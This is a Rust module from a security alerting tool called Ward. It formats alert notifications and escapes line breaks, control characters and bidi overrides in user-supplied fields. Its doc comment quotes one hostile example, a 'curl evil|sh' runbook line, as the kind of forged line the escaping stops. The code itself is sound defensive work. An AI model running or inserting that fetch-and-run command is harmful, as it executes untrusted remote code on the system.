//! The default message texts, shared by e-mail, Slack, PagerDuty and syslog:
//! what happened, who and what is affected, the evidence, a link to the
//! alert in Ward and the rule's runbook.
//!
//! Every value taken from events, labels, rules or people goes through
//! [`one_line`] (or [`block`] for descriptions): a line break in a label or
//! an owner contact cannot forge a line such as `Runbook: curl evil|sh`,
//! and control characters and bidi overrides cannot hide text.

use std::fmt::Write;

use crate::notification::{AlertSummary, GroupStatus, Notification, Reason};

/// Labels that say who and what is affected, in the order shown.
const AFFECTED: [(&str, &str); 6] = [
    ("tenant", "tenant"),
    ("service", "service"),
    ("host", "host"),
    ("user", "user"),
    ("repository", "repository"),
    ("source.ip", "source ip"),
];

/// Whether a character must not reach a text notification as it is: C0
/// and C1 controls, DEL, and the bidi overrides and isolates.
fn is_unsafe(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200E}' | '\u{200F}' | '\u{061C}' | '\u{2028}' | '\u{2029}')
}

fn escape(s: &str, keep_newlines: bool) -> String {
    if !s.chars().any(is_unsafe) {
        return s.to_owned();
    }
    let mut out = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        match c {
            '\n' if keep_newlines => out.push('\n'),
            '\n' | '\r' | '\t' | '\u{2028}' | '\u{2029}' => out.push(' '),
            c if is_unsafe(c) => {
                let _ = write!(out, "\\u{{{:x}}}", c as u32);
            }
            c => out.push(c),
        }
    }
    out
}

/// A single-line field: line breaks become spaces, other controls and bidi
/// overrides visible escapes.
pub fn one_line(s: &str) -> String {
    escape(s, false)
}

/// A multi-line field (a rule's description): line breaks kept, every
/// other control escaped.
pub fn block(s: &str) -> String {
    escape(s, true)
}

/// One-line summary, e.g. `[FIRING:2] Brute force (high) — owner payments`.
pub fn title(n: &Notification) -> String {
    let firing = n
        .alerts
        .iter()
        .filter(|a| a.status != crate::alert::Status::Resolved)
        .count();
    let head = match (&n.reason, n.status) {
        (Reason::SlaBreach { kind }, _) => format!("[SLA BREACH: {kind}]"),
        (Reason::Silenced { by, .. }, _) => format!("[SILENCED:{firing} by {}]", one_line(by)),
        (Reason::SilenceExpired { by, .. }, _) => {
            format!("[SILENCE ENDED:{firing} by {}]", one_line(by))
        }
        (Reason::RoutingChanged { by, change }, _) => {
            return format!("[ROUTING CHANGED by {}] {}", one_line(by), one_line(change));
        }
        (_, GroupStatus::Resolved) => "[RESOLVED]".to_string(),
        (_, GroupStatus::Acknowledged) => format!("[ACKNOWLEDGED:{firing}]"),
        (_, GroupStatus::Firing) => format!("[FIRING:{firing}]"),
    };
    let Some(first) = n.alerts.first() else {
        return head;
    };
    let mut t = format!(
        "{head} {} ({})",
        one_line(&first.rule_title),
        n.max_severity().as_str()
    );
    if n.alerts.len() > 1 {
        let _ = write!(t, " and {} more", n.alerts.len() - 1);
    }
    if let Some(owner) = &first.owner {
        let _ = write!(t, " — owner {}", one_line(owner));
    }
    t
}

/// Who and what an alert affects, e.g. `service checkout, host web-1`.
pub fn affected(a: &AlertSummary) -> String {
    let parts: Vec<String> = AFFECTED
        .iter()
        .filter_map(|(label, name)| {
            a.labels
                .get(*label)
                .map(|v| format!("{name} {}", one_line(v)))
        })
        .collect();
    if parts.is_empty() {
        "not known".into()
    } else {
        parts.join(", ")
    }
}

/// The line that says which person changed what, for a notice of a
/// person's change (already [`one_line`]), e.g. `Silenced by ana from … until
/// …: maintenance (silence 0193…)`.
pub fn change_line(n: &Notification) -> Option<String> {
    let line = match &n.reason {
        Reason::Group | Reason::SlaBreach { .. } => return None,
        Reason::Silenced {
            by,
            silence,
            starts_at,
            ends_at,
            comment,
        } => format!(
            "Silenced by {by} from {starts_at:.0} until {ends_at:.0}{} (silence {silence})",
            if comment.is_empty() {
                String::new()
            } else {
                format!(": {comment}")
            }
        ),
        Reason::SilenceExpired { by, silence } => {
            format!("Silence {silence} ended early by {by}; these alerts notify again")
        }
        Reason::RoutingChanged { by, change } => format!("Routing changed by {by}: {change}"),
    };
    Some(one_line(&line))
}

/// The plain-text body.
pub fn text(n: &Notification) -> String {
    let mut out = String::new();
    let _ = writeln!(out, "{}", title(n));
    if let Some(line) = change_line(n) {
        let _ = writeln!(out, "\n{line}.");
    }
    if let Reason::SlaBreach { kind } = &n.reason {
        let _ = writeln!(
            out,
            "\nThe time to {kind} of this alert has passed without it being {}.",
            if kind == "acknowledge" {
                "acknowledged"
            } else {
                "resolved"
            }
        );
    }
    for a in &n.alerts {
        let _ = writeln!(out);
        let _ = writeln!(
            out,
            "{} — {} ({}, {})",
            one_line(&a.rule_title),
            one_line(&a.id),
            a.severity.as_str(),
            a.status.as_str()
        );
        if !a.description.is_empty() {
            let _ = writeln!(out, "What happened: {}", block(a.description.trim()));
        }
        let _ = writeln!(out, "Affected: {}", affected(a));
        match &a.owner {
            Some(o) if a.owner_contacts.is_empty() => {
                let _ = writeln!(out, "Owner: {}", one_line(o));
            }
            Some(o) => {
                let _ = writeln!(
                    out,
                    "Owner: {} ({})",
                    one_line(o),
                    one_line(&a.owner_contacts.join(", "))
                );
            }
            None => {
                let _ = writeln!(out, "Owner: none registered (coverage gap)");
            }
        }
        if let Some(who) = &a.assignee {
            let _ = writeln!(out, "Assignee: {}", one_line(who));
        }
        if let Some(who) = &a.acknowledged_by {
            let _ = writeln!(out, "Acknowledged by: {}", one_line(who));
        }
        if let Some(who) = &a.resolved_by {
            let _ = writeln!(out, "Resolved by: {}", one_line(who));
        }
        let more = a.evidence_total.saturating_sub(a.evidence.len());
        let _ = writeln!(
            out,
            "Evidence: {} event(s) from {} to {}, {} finding(s): {}{}",
            a.evidence_total,
            a.first_seen,
            a.last_seen,
            a.count,
            one_line(&a.evidence.join(", ")),
            if more > 0 {
                format!(" and {more} more")
            } else {
                String::new()
            }
        );
        if let Some(r) = &a.runbook {
            let _ = writeln!(out, "Runbook: {}", one_line(r));
        }
        let _ = writeln!(out, "Open in Ward: {}", one_line(&a.url));
    }
    out
}
